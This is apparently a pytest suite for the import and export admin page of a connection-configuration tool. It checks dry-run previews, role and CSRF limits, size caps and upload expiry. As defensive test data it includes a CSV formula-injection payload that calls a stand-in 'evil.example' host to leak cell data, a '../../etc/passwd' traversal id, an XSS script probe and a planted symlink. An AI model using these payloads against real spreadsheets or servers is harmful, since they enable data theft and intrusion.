"""The transfer page: export downloads, an import previewed as a dry run and then applied, the size
cap, roles, CSRF, and the uploads kept between preview and Apply."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import time
from pathlib import Path
from typing import Any

import pytest

from zato_outconn import OutconnConfig, SecurityConfig, Store
from zato_outconn.admin.pages.import_uploads import MAX_AGE, PendingUploads
from zato_outconn.exceptions import ConfigError
from zato_outconn.store.transfer import FORMAT, FORMAT_VERSION

from tests.admin.conftest import API, make_app
from tests.admin.pages_client import Pages

SECRET = 'Export-never-holds-S3cret'


def _document(*outconns: dict[str, Any], security: list[dict[str, Any]] | None = None) -> bytes:
    return json.dumps({'format': FORMAT, 'format_version': FORMAT_VERSION, 'security': security or [],
                       'outconns': list(outconns)}).encode()


pytestmark = pytest.mark.usefixtures('cheap_hashes')


@pytest.fixture
def uploads_folder(tmp_path: Path) -> Path:
    return tmp_path / 'uploads'


@pytest.fixture
def pages(sqlite_store: Store, uploads_folder: Path) -> Pages:
    return Pages(make_app(sqlite_store, IMPORT_UPLOAD_FOLDER=str(uploads_folder)), sqlite_store)


def _upload(pages: Pages, data: bytes, filename: str = 'export.json', on_conflict: str = 'fail',
            csrf: bool = True) -> Any:
    return pages.submit('/transfer', '/transfer/import', {'file': (io.BytesIO(data), filename),
                                                          'on_conflict': on_conflict},
                        csrf=csrf, content_type='multipart/form-data')


def _upload_id(text: str) -> str:
    found = re.search(r'<input type="hidden" name="upload" value="([^"]+)">', text)
    assert found, text
    return found.group(1)


def _results(text: str) -> list[tuple[str, str]]:
    """(name, result) of each row of the report on the page."""
    rows = re.findall(r'<tr class="[^"]*">\s*<td>[^<]*</td>\s*<td>[^<]*</td>\s*<td>([^<]*)</td>\s*<td>([^<]*)</td>',
                      text)
    return [(name, result) for name, result in rows]


def _fill(store: Store) -> None:
    store.create_security(SecurityConfig(name='crm-creds', sec_type='basic_auth', username='alice', secret=SECRET))
    store.create_outconn(OutconnConfig(name='CRM', host='http://crm.example.com', security='crm-creds'))


@pytest.mark.parametrize('output_format', ['json', 'csv'])
def test_the_export_downloads_what_the_api_exports_without_secrets(store: Store, output_format: str) -> None:
    _fill(store)
    app = make_app(store)
    pages = Pages(app, store)
    pages.sign_in('admin')
    assert 'Download JSON' in pages.text('/transfer')
    download = pages.get(f'/transfer/export?format={output_format}')
    assert download.status_code == 200
    assert download.headers['Content-Disposition'] == f'attachment; filename="zato-outconn-export.{output_format}"'
    api = API(app, store).get('/api/v1/export', query_string={'format': output_format})
    assert download.get_data() == api.get_data() and download.mimetype == api.mimetype
    assert SECRET not in download.get_data(as_text=True) and 'crm-creds' in download.get_data(as_text=True)


def test_an_import_is_previewed_then_applied_from_the_file_kept_on_the_server(pages: Pages,
                                                                             uploads_folder: Path) -> None:
    pages.sign_in('admin')
    data = _document({'name': 'CRM', 'host': 'http://crm.example.com', 'security': 'crm-creds'},
                     security=[{'name': 'crm-creds', 'sec_type': 'basic_auth', 'username': 'alice'}])
    preview = _upload(pages, data)
    text = preview.get_data(as_text=True)
    assert preview.status_code == 200, text
    assert 'nothing is written yet' in text and 'Would import: 2 create (nothing written)' in text
    assert _results(text) == [('crm-creds', 'would create'), ('CRM', 'would create')]
    assert pages.store.list_outconns() == [] and pages.store.list_security() == []
    assert len(list(uploads_folder.iterdir())) == 1
    assert oct(uploads_folder.stat().st_mode & 0o777) == '0o700'
    upload_id = _upload_id(text)
    applied = pages.submit('/transfer', '/transfer/apply', {'upload': upload_id})
    text = applied.get_data(as_text=True)
    assert applied.status_code == 200, text
    assert _results(text) == [('crm-creds', 'created'), ('CRM', 'created')]
    assert 'Imported: 2 create (written)' in text
    assert pages.store.find_outconn('CRM').config.security == 'crm-creds'
    assert list(uploads_folder.iterdir()) == []
    again = pages.submit('/transfer', '/transfer/apply', {'upload': upload_id})
    assert again.status_code == 409 and 'no longer waiting' in again.get_data(as_text=True)
    history = pages.store.history('outconn', pages.store.find_outconn('CRM').id)
    assert history[0].changed_by == 'admin:admin-person'


def test_conflicts_are_skipped_or_overwritten_as_chosen_and_fail_by_default(pages: Pages) -> None:
    pages.sign_in('admin')
    pages.store.create_outconn(OutconnConfig(name='CRM', host='http://old.example.com'))
    data = _document({'name': 'CRM', 'host': 'http://new.example.com'}, {'name': 'New', 'host': 'http://n.example'})
    failed = _upload(pages, data)
    text = failed.get_data(as_text=True)
    assert failed.status_code == 422 and 'name="upload"' not in text
    assert ('CRM', 'error') in _results(text) and 'exists already' in text
    skipped = _upload(pages, data, on_conflict='skip').get_data(as_text=True)
    assert _results(skipped) == [('CRM', 'would skip'), ('New', 'would create')]
    overwrite = _upload(pages, data, on_conflict='overwrite').get_data(as_text=True)
    assert _results(overwrite)[0] == ('CRM', 'would update')
    assert 'host: http://old.example.com → http://new.example.com' in overwrite
    # The last preview is the one that waits: Apply writes it, with its on_conflict.
    assert pages.submit('/transfer', '/transfer/apply', {'upload': _upload_id(overwrite)}).status_code == 200
    assert pages.store.find_outconn('CRM').config.host == 'http://new.example.com'
    assert pages.store.find_outconn('New')
    assert pages.submit('/transfer', '/transfer/apply', {'upload': _upload_id(skipped)}).status_code == 409


def test_a_csv_export_imports_back_through_the_page(pages: Pages) -> None:
    _fill(pages.store)
    pages.sign_in('admin')
    csv_data = pages.get('/transfer/export?format=csv').get_data()
    pages.store.delete_outconn('plain_http', 'CRM')
    preview = _upload(pages, csv_data, 'export.csv', on_conflict='skip').get_data(as_text=True)
    assert _results(preview) == [('crm-creds', 'would skip'), ('CRM', 'would create')]
    assert pages.submit('/transfer', '/transfer/apply', {'upload': _upload_id(preview)}).status_code == 200
    assert pages.store.find_outconn('CRM').config.security == 'crm-creds'


def test_bad_items_are_each_named_with_the_reason_and_nothing_is_written(pages: Pages) -> None:
    pages.sign_in('admin')
    answer = _upload(pages, _document({'name': 'A', 'host': 'ftp://a'}, {'name': 'B', 'host': 'http://b.example'},
                                      {'name': 'C', 'host': 'http://c', 'pool_size': 0}))
    text = answer.get_data(as_text=True)
    assert answer.status_code == 422 and 'name="upload"' not in text
    assert [result for _, result in _results(text)] == ['error', 'would create', 'error']
    assert 'host must be' in text and 'pool_size' in text
    assert pages.store.list_outconns() == []
    not_export = _upload(pages, b'{"outconns": []}')
    assert not_export.status_code == 422 and 'is not a zato-outconn export' in not_export.get_data(as_text=True)
    empty = _upload(pages, b'')
    assert empty.status_code == 422 and 'choose a file' in empty.get_data(as_text=True)


def test_a_file_above_the_cap_is_refused_with_the_limit(sqlite_store: Store, uploads_folder: Path) -> None:
    pages = Pages(make_app(sqlite_store, MAX_IMPORT_BYTES=300, IMPORT_UPLOAD_FOLDER=str(uploads_folder)),
                  sqlite_store)
    pages.sign_in('admin')
    data = _document(*({'name': f'N{index}', 'host': 'http://n.example.com'} for index in range(10)))
    assert len(data) > 300
    answer = _upload(pages, data)
    assert answer.status_code == 413
    assert 'The file is too large: an import takes at most 300 bytes' in answer.get_data(as_text=True)
    # A body far beyond the cap is refused before it is read.
    huge = _upload(pages, b' ' * (200 * 1024))
    assert huge.status_code == 413 and 'at most 300 bytes' in huge.get_data(as_text=True)
    assert sqlite_store.list_outconns() == [] and not uploads_folder.exists()
    assert _upload(pages, _document()).status_code == 200


@pytest.mark.parametrize('role', ['viewer', 'operator'])
def test_viewers_and_operators_may_neither_export_nor_import(pages: Pages, role: str) -> None:
    pages.sign_in(role)
    assert pages.get('/transfer').status_code == 403
    assert pages.get('/transfer/export?format=json').status_code == 403
    token = pages.token_of('/security')
    answer = pages.client.post('/transfer/import', data={'csrf_token': token, 'on_conflict': 'fail',
                                                         'file': (io.BytesIO(_document({'name': 'A', 'host': 'http://a'})),
                                                                  'a.json')}, content_type='multipart/form-data')
    assert answer.status_code == 403
    assert pages.client.post('/transfer/apply', data={'csrf_token': token, 'upload': 'x' * 32}).status_code == 403
    assert pages.store.list_outconns() == []


def test_an_import_or_apply_without_the_csrf_token_is_refused(pages: Pages) -> None:
    pages.sign_in('admin')
    data = _document({'name': 'A', 'host': 'http://a.example.com'})
    assert _upload(pages, data, csrf=False).status_code == 400
    upload_id = _upload_id(_upload(pages, data).get_data(as_text=True))
    assert pages.client.post('/transfer/apply', data={'upload': upload_id}).status_code == 400
    assert pages.store.list_outconns() == []
    assert pages.submit('/transfer', '/transfer/apply', {'upload': upload_id}).status_code == 200


def test_a_name_with_markup_in_a_report_renders_as_text(pages: Pages) -> None:
    pages.sign_in('admin')
    text = _upload(pages, _document({'name': '<script>alert(1)</script>', 'host': 'http://a.example.com'})
                   ).get_data(as_text=True)
    assert '<script>alert(1)</script>' not in text and '&lt;script&gt;alert(1)&lt;/script&gt;' in text


def test_uploads_expire_and_are_swept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    uploads = PendingUploads(tmp_path / 'kept')
    old = uploads.keep(b'old')
    assert uploads.read(old) == b'old'
    past = time.time() - MAX_AGE - 10
    os.utime(uploads.folder / f'{old}.upload', (past, past))
    assert uploads.read(old) is None
    new = uploads.keep(b'new')
    assert [path.name for path in uploads.folder.iterdir()] == [f'{new}.upload']
    assert uploads.read('../../etc/passwd') is None and uploads.read('x' * 32) is None
    open_folder = tmp_path / 'open'
    open_folder.mkdir(mode=0o777)
    open_folder.chmod(0o777)
    with pytest.raises(ConfigError, match='mode 0700'):
        PendingUploads(open_folder).keep(b'data')


def test_the_upload_folder_is_set_by_its_variable(sqlite_store: Store, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv('ZATO_OUTCONN_IMPORT_UPLOAD_FOLDER', str(tmp_path / 'from-env'))
    pages = Pages(make_app(sqlite_store), sqlite_store)
    pages.sign_in('admin')
    assert _upload(pages, _document({'name': 'A', 'host': 'http://a.example.com'})).status_code == 200
    assert len(list((tmp_path / 'from-env').iterdir())) == 1


def test_an_upload_never_applied_goes_when_the_page_is_next_opened(pages: Pages, uploads_folder: Path) -> None:
    pages.sign_in('admin')
    assert _upload(pages, _document({'name': 'A', 'host': 'http://a.example.com'})).status_code == 200
    kept, = uploads_folder.iterdir()
    pages.text('/transfer')
    assert kept.exists()
    past = time.time() - MAX_AGE - 10
    os.utime(kept, (past, past))
    pages.text('/transfer')
    assert not kept.exists()


def test_a_csv_cell_too_long_for_the_csv_reader_is_refused_in_place(pages: Pages) -> None:
    # Python's csv module refuses a field over 128 KiB; an upload within the cap must still get an answer.
    pages.sign_in('admin')
    data = b'kind,name,host\r\noutconn,' + b'x' * (200 * 1024) + b',http://a.example.com\r\n'
    answer = _upload(pages, data, 'export.csv')
    text = answer.get_data(as_text=True)
    assert answer.status_code == 422, text
    assert 'file: is not a CSV file this import reads' in text and 'name="upload"' not in text
    api = API(pages.app, pages.store).post('/api/v1/import', data=data, content_type='text/csv')
    assert api.status_code == 422 and api.get_json()['errors'][0]['field'] == 'file'
    assert pages.store.list_outconns() == []


def test_a_long_file_name_keeps_the_session_cookie_small_enough_to_keep(pages: Pages) -> None:
    # Browsers drop a cookie of more than 4 KB: the session would lose the upload waiting for its Apply.
    pages.sign_in('admin')
    name = ''.join(f'{index:x}' for index in range(2000)) + '.json'
    preview = _upload(pages, _document({'name': 'A', 'host': 'http://a.example.com'}), name)
    text = preview.get_data(as_text=True)
    assert preview.status_code == 200, text
    cookie = pages.client.get_cookie('session')
    assert cookie is not None and len(cookie.value) < 4000
    assert name[:90] in text
    applied = pages.submit('/transfer', '/transfer/apply', {'upload': _upload_id(text)})
    assert applied.status_code == 200 and pages.store.find_outconn('A')


FORMULAE = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(1)', "'=quoted", "'plain"]


def test_the_csv_export_defuses_formulae_and_imports_them_back_as_they_were(pages: Pages) -> None:
    # A cell opened in a spreadsheet must never run as a formula (OWASP's leading quote), and the
    # import undoes exactly that quote, so that the file still round-trips.
    for text in FORMULAE:
        pages.store.create_security(SecurityConfig(name=text, sec_type='basic_auth', username='alice'))
    pages.sign_in('admin')
    exported = pages.get('/transfer/export?format=csv').get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ('=', '+', '-', '@', '\t', '\r')], cells
    assert f"'{FORMULAE[0]}" in cells and "''=quoted" in cells and "''plain" in cells
    preview = _upload(pages, exported.encode(), 'export.csv', on_conflict='overwrite').get_data(as_text=True)
    assert [result for _, result in _results(preview)] == ['unchanged'] * len(FORMULAE), preview
    assert sorted(record.config.name for record in pages.store.list_security()) == sorted(FORMULAE)
    # A cell a person quoted by hand in a spreadsheet reads as what it shows.
    hand = b"kind,name,host\r\noutconn,'=A1,http://a.example.com\r\noutconn,'B,http://b.example.com\r\n"
    assert _results(_upload(pages, hand, 'hand.csv').get_data(as_text=True)) == [
        ('=A1', 'would create'), ('&#39;B', 'would create')]


def test_an_upload_folder_nobody_may_use_is_a_server_error_naming_the_setting(sqlite_store: Store,
                                                                             tmp_path: Path) -> None:
    folder = tmp_path / 'open'
    folder.mkdir()
    folder.chmod(0o777)
    pages = Pages(make_app(sqlite_store, IMPORT_UPLOAD_FOLDER=str(folder)), sqlite_store)
    pages.sign_in('admin')
    answer = _upload(pages, _document({'name': 'A', 'host': 'http://a.example.com'}))
    text = answer.get_data(as_text=True)
    assert answer.status_code == 503, text
    assert 'IMPORT_UPLOAD_FOLDER' in text and 'mode 0700' in text and 'name="upload"' not in text


def test_an_upload_is_taken_once_and_a_link_in_its_place_is_never_read(tmp_path: Path) -> None:
    uploads = PendingUploads(tmp_path / 'kept')
    upload_id = uploads.keep(b'data')
    # Two Applies of one preview at once: only one of them imports the file.
    assert uploads.take(upload_id) == b'data' and uploads.take(upload_id) is None
    assert list(uploads.folder.iterdir()) == []
    planted = uploads.keep(b'planted')
    target = tmp_path / 'elsewhere'
    target.write_bytes(b'not an upload')
    (uploads.folder / f'{planted}.upload').unlink()
    (uploads.folder / f'{planted}.upload').symlink_to(target)
    assert uploads.read(planted) is None and uploads.take(planted) is None
    assert PendingUploads(tmp_path / 'never-made').take(upload_id) is None


def test_the_page_still_opens_with_an_upload_folder_that_is_not_safe(sqlite_store: Store, tmp_path: Path) -> None:
    folder = tmp_path / 'open'
    folder.mkdir()
    folder.chmod(0o777)
    pages = Pages(make_app(sqlite_store, IMPORT_UPLOAD_FOLDER=str(folder)), sqlite_store)
    pages.sign_in('admin')
    assert 'Download CSV' in pages.text('/transfer')


def test_a_csv_saved_by_a_spreadsheet_with_a_byte_order_mark_imports(pages: Pages) -> None:
    # Excel's "CSV UTF-8" starts the file with a byte order mark, which is no part of the first column's name.
    _fill(pages.store)
    pages.sign_in('admin')
    exported = pages.get('/transfer/export?format=csv').get_data()
    preview = _upload(pages, b'\xef\xbb\xbf' + exported, 'saved.csv', on_conflict='skip')
    assert preview.status_code == 200, preview.get_data(as_text=True)
    assert _results(preview.get_data(as_text=True)) == [('crm-creds', 'would skip'), ('CRM', 'would skip')]


def test_an_apply_the_database_refuses_waits_to_be_applied_again(sqlite_url: str, uploads_folder: Path) -> None:
    # Nothing is written while another session holds the database's write lock: the upload is kept
    # for the next Apply, rather than lost with the answer that says the database is busy.
    store = Store(sqlite_url, lock_timeout=0.3)
    try:
        pages = Pages(make_app(store, IMPORT_UPLOAD_FOLDER=str(uploads_folder)), store)
        pages.sign_in('admin')
        upload_id = _upload_id(_upload(pages, _document({'name': 'A', 'host': 'http://a.example.com'})).get_data(
            as_text=True))
        token = pages.token_of('/transfer')
        holder = sqlite3.connect(str(store.engine.url.database), isolation_level=None)
        try:
            holder.execute('BEGIN IMMEDIATE')
            failed = pages.client.post('/transfer/apply', data={'csrf_token': token, 'upload': upload_id})
        finally:
            holder.execute('ROLLBACK')
            holder.close()
        assert failed.status_code == 503 and 'busy' in failed.get_data(as_text=True)
        assert len(list(uploads_folder.iterdir())) == 1 and store.list_outconns() == []
        again = pages.submit('/transfer', '/transfer/apply', {'upload': upload_id})
        assert again.status_code == 200, again.get_data(as_text=True)
        assert store.find_outconn('A') and list(uploads_folder.iterdir()) == []
    finally:
        store.close()


def test_a_semicolon_csv_named_neither_csv_nor_sent_as_csv_is_read_as_csv(pages: Pages) -> None:
    # A spreadsheet set to a decimal comma separates cells with semicolons, and may save the file
    # under any name: its first line, not its name, says it is a CSV.
    _fill(pages.store)
    pages.sign_in('admin')
    exported = pages.get('/transfer/export?format=csv').get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(exported)))
    out = io.StringIO()
    csv.writer(out, delimiter=';').writerows(rows)
    for data in (out.getvalue().encode(), b'sep=;\r\n' + out.getvalue().encode()):
        preview = _upload(pages, data, 'export.txt', on_conflict='skip')
        assert preview.status_code == 200, preview.get_data(as_text=True)
        assert _results(preview.get_data(as_text=True)) == [('crm-creds', 'would skip'), ('CRM', 'would skip')]


def test_a_new_definition_s_preview_says_its_secret_is_set_never_what_it_is(pages: Pages) -> None:
    pages.sign_in('admin')
    document = _document(security=[{'name': 'new-creds', 'sec_type': 'basic_auth', 'username': 'u',
                                    'secret': 'Imported-S3cret'}])
    text = _upload(pages, document).get_data(as_text=True)
    assert 'secret set' in text and 'Imported-S3cret' not in text
